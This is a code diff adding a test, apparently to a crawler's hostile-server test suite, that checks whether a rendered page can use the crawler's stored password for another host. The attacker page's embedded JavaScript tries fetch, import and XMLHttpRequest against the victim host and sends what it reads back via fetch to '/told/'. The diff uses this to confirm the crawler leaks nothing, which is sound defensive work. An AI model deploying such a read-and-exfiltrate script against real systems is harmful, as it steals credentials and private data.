@@ -707,6 +707,75 @@ class _OtherPorts(Row):
             yield f"{leaked} requests to another port with credentials"
 
 
+class _RenderedReads(Row):
+    """A rendered page that asks another host, to which we have a password, and tells what it read.
+
+    It needs Chromium.
+    """
+
+    name, faults = "rendered_reads", "the first of the second review"
+    seconds, neighbours, hosts = 30.0, False, 2
+    secret = "s3cret-account"
+    #: A browser is no part of the bounds of a crawl, and its driver is loaded by the first page.
+    most: ClassVar[Mapping[str, float]] = {"peak_mb": 1_500.0, "stretch_ms": 1_000.0}
+    tries = (
+        "fetch(V + 'plain').then(got => got.text())",
+        "fetch(V + 'cookies', {credentials: 'include'}).then(got => got.text())",
+        "fetch('/moved').then(got => got.text())",
+        "import(V + 'json', {with: {type: 'json'}}).then(it => it.default.account)",
+        (
+            "new Promise(done => { const xhr = new XMLHttpRequest(); xhr.open('GET', V + 'xhr'); "
+            "xhr.onloadend = () => done(xhr.responseText); xhr.send(); })"
+        ),
+    )
+    asked = ("/plain", "/cookies", "/moved", "/json", "/xhr")
+
+    def command(self, directory: Path) -> list[str]:
+        seeds = [it.rstrip("/") for it in (directory / "sites.txt").read_text("utf-8").split()]
+        ours = f'[[sites]]\nmatch = "{seeds[1]}"\nuser = "us"\npassword = "s3cretpw"\n'
+        theirs = f'[[sites]]\nmatch = "{seeds[0]}"\nrender = "always"\nrender_wait = "#all"\n'
+        (directory / "ours.toml").write_text(ours + theirs, "utf-8")
+        (directory / "ours.toml").chmod(0o600)
+        return [*super().command(directory), "--config", "ours.toml"]
+
+    def page(self, request: Request) -> Pieces:
+        _, victim = self.addresses()
+        if request.host == victim:
+            if request.path == "/":
+                return whole(html("The account of somebody."), _HTML)
+            # To whoever is in this network.
+            account = f'{{"account": "{self.secret}"}}'.encode()
+            return whole(account, "Content-Type: application/json")
+        if request.path == "/moved":
+            to = f"{request.beside(victim)}/moved"
+            return iter([head(302, f"Location: {to}", "Content-Length: 0")])
+        if request.path != "/":
+            return whole(b"", _TEXT)
+        tries = ", ".join(f"() => {each}" for each in self.tries)
+        script = (
+            f"const V = '{request.beside(victim)}/'; (async () => {{ for (const each of [{tries}]) "
+            "{ const got = await each().catch(() => ''); document.body.append(got); "
+            "await fetch('/told/' + encodeURIComponent(got)); } "
+            "document.body.insertAdjacentHTML('beforeend', '<p id=all>All tried.</p>'); })();"
+        )
+        return whole(html(f"<script>{script}</script>"), _HTML)
+
+    def check(self, outcome: Outcome) -> Iterator[str]:
+        attacker, victim = self.addresses()
+        at_victim = [each for each in outcome.hostile if each.host == victim]
+        if missing := set(self.asked) - {each.path for each in at_victim}:
+            yield f"not tried: {', '.join(sorted(missing))}"
+        if any(self.secret in each.path for each in outcome.hostile):
+            yield "the page has read what is there for us"
+        if any(each.credentials and each.host == attacker for each in outcome.hostile):
+            yield "the page's host was told our password"
+        if sent := sum(bool(each.credentials) and each.path in self.asked for each in at_victim):
+            yield f"{sent} of the page's requests had our password"
+        with reading(outcome.store) as connection:
+            if any(self.secret in line for line in connection.iterdump()):
+                yield "the store has what is there for us"
+
+
 class _SilentSeeds(Row):
     """16,000 URLs of a host that is down."""
 
@@ -870,7 +939,7 @@ _CLASSES: Sequence[type[Row]] = (
     _BombsAtOnce,
     _RobotsWildcards, _Flood1xx, _OddValidators, _IndexEndless, _SitemapFlood, _SeedRedirect,
     _ParserQueue, _ParserMemory, _PoliteAbort, _PoliteKill, _PoliteKillInFlight, _Userinfo,
-    _OtherPorts, _LongUrls,
+    _OtherPorts, _RenderedReads, _LongUrls,
     _SilentSeeds, _GzipMembers, _SitemapEncoding, _ImportBomb, _WarcHeads, _WarcInterim,
     _WarcFakeHeads, _WarcFakeHeadsPlain, _DeepToml, _LongSiteLine,
 )  # fmt: skip
